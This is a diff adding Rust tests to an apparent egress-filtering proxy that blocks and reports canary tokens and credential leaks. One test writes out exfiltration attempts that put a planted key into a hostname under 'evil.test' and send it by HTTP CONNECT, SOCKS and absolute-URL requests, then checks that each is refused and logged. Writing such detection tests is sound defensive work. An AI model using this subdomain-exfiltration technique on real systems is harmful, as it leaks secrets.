@@ -118,6 +118,65 @@ fn canaries_are_made_listed_and_removed() {
 }
 
 #[test]
+fn a_name_that_no_rule_allows_raises_the_alarm_of_what_is_in_it() {
+    const INJECTED: &str = "k3yz0123456789abcdef0123456789";
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("key");
+    fs::write(&file, INJECTED).unwrap();
+    let resolver = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+    resolver.set_nonblocking(true).unwrap();
+    let origin = ScriptedOrigin::start_plain();
+    let mut setup = InstanceSetup::with_hosts(&[("a.test", origin.port())]);
+    setup.policy += "[[allow]]\nname = \"keyed\"\nhosts = [\"b.test\"]\ncredential = \"key\"\n";
+    setup.tables = format!("[[credential]]\nname = \"key\"\nfile = \"{}\"\n", file.display());
+    setup.resolver = Some(resolver.local_addr().unwrap());
+    let scene = SignalScene { world: setup.start(), origin };
+    let canary = scene.new_canary("planted-name", "dns-name").to_lowercase();
+    let port = scene.origin.port();
+    for (name, code) in [(canary, "canary_used"), (format!("{INJECTED}.evil.test"), "credential_leaving")] {
+        let socks = [&[5, 1, 0, 3, name.len() as u8][..], name.as_bytes(), &port.to_be_bytes()].concat();
+        for (what, hello, request) in [
+            (
+                "CONNECT",
+                None,
+                format!("CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n").into_bytes(),
+            ),
+            (
+                "SOCKS",
+                Some([5_u8, 1, 0]),
+                [&[5, 1, 0, 3, name.len() as u8][..], name.as_bytes(), &[1, 187]].concat(),
+            ),
+            ("SOCKS, another port", Some([5_u8, 1, 0]), socks),
+            (
+                "absolute",
+                None,
+                format!("GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n")
+                    .into_bytes(),
+            ),
+        ] {
+            let since = scene.world.record_count();
+            let mut wire = scene.world.connect();
+            if let Some(hello) = hello {
+                wire.send(hello);
+                assert_eq!(wire.read_exact(2), Some(vec![5, 0]), "{what}");
+            }
+            wire.send(request);
+            let said = wire.read_to_end();
+            assert!(!said.starts_with(b"HTTP/1.1 200") && !said.starts_with(&[5, 0]), "{what}: granted");
+            let refused = scene.world.wait_for_record(since, what, |record| {
+                record["class_uid"] != 2004 && record["disposition"] == "Blocked"
+            });
+            let found = scene.world.wait_for_record(since, what, |record| record["class_uid"] == 2004);
+            assert_eq!(found["finding_info"]["types"][0], code, "{what}: {found}");
+            let attempt = refused["metadata"]["correlation_uid"].as_str().unwrap();
+            assert!(found.to_string().contains(attempt), "{what}: {found} is not linked to {refused}");
+        }
+    }
+    assert!(scene.origin.connections().is_empty(), "a connection arrived");
+    assert!(resolver.recv(&mut [0; 512]).is_err(), "a query arrived");
+}
+
+#[test]
 fn a_canary_is_refused_wherever_it_leaves() {
     let mut scene = SignalScene::new();
     let canary = scene.new_canary("deploy-key", "token");
@@ -199,6 +258,34 @@ fn try_signals(args: &[&str], request: &[u8]) -> Output {
 fn github_token() -> String {
     let random: [u8; RANDOM_BYTES] = std::array::from_fn(|at| (at * 37 + 11) as u8);
     make(CanaryShape::GithubToken, "x", &random).unwrap().text()
+}
+
+// proves: signals.thresholds.header_bits_per_hour, allow.signals.thresholds.header_bits_per_hour
+// proves: memory.signals.thresholds.header_bits_per_hour
+#[test]
+fn bits_of_an_hour_are_flagged_beyond_their_threshold() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("p.toml");
+    let set = "signals = { thresholds = { header_bits_per_hour = 50 } }\n";
+    for (policy, allow, memory) in [("", "", ""), (set, "", ""), ("", set, ""), ("", "", set)] {
+        let rules = format!(
+            "name = \"p\"\n{policy}[[allow]]\nname = \"web\"\nhosts = [\"a.example\"]\n{allow}[[memory]]\n\
+             name = \"memory\"\nhost = \"m.example\"\nprofile = \"astrocyte\"\nrecall = [\"staging:a\"]\n{memory}"
+        );
+        fs::write(&path, &rules).unwrap();
+        let shown = path.display().to_string();
+        for (host, own) in [("a.example", allow), ("m.example", memory)] {
+            let request = format!("GET /v1/health HTTP/1.1\r\nHost: {host}\r\nX-Say: something\r\n\r\n");
+            let output = try_signals(&["--policy", &shown, "--json"], request.as_bytes());
+            let tried: Value =
+                serde_json::from_slice(&output.stdout).unwrap_or_else(|_| panic!("{output:?}"));
+            let form = tried["form"].as_array().unwrap();
+            let found = form.iter().find(|signal| signal["code"] == "header_bits");
+            let expected = !policy.is_empty() || !own.is_empty();
+            assert_eq!(found.is_some(), expected, "{host}: {rules}: {form:?}");
+            assert!(found.is_none_or(|signal| signal["threshold"] == 50), "{found:?}");
+        }
+    }
 }
 
 #[test]
@@ -331,7 +418,7 @@ fn the_signals_are_listed_with_what_governs_them() {
         ("canary_used", &["canaries"][..], "deny"),
         ("content_unsearched", &["body", "headers", "url"], "flag"),
         ("credential_leaving", &[], "deny"),
-        ("encoded_run", &["body", "headers", "url"], "flag"),
+        ("encoded_run", &["headers", "url"], "flag"),
         ("memory_flow", &["memory_flow"], "flag"),
         ("secret_found", &["secrets"], "flag"),
         ("upload_ratio", &["body"], "flag"),
